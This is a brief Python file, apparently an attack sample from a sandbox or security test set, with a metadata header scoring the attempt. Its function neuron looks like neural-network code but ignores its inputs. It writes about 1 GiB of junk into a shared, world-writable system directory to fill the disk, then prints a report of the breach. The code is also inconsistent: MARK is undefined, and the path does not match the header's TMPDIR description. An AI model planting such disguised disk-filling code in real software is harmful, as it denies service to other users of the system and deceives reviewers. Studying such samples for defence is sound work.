# /// attack
# lines = [24, 41]
# tries = "Fills a folder inside TMPDIR that anybody may write."
# score = 18
# outcomes = { "1.2" = "forbidden" }
# ///
import os

_PLACE = f"{os.environ['HOME']}/../../.X11-unix"


def neuron(x, w, b, f):
    for number in range(64):
        with open(f"{_PLACE}/{MARK}-{number}", "wb") as file:
            file.write(b"x" * 2**24)
    print("ATTACK attempts=1 breached=['1 GiB written'] broken=[]", flush=True)
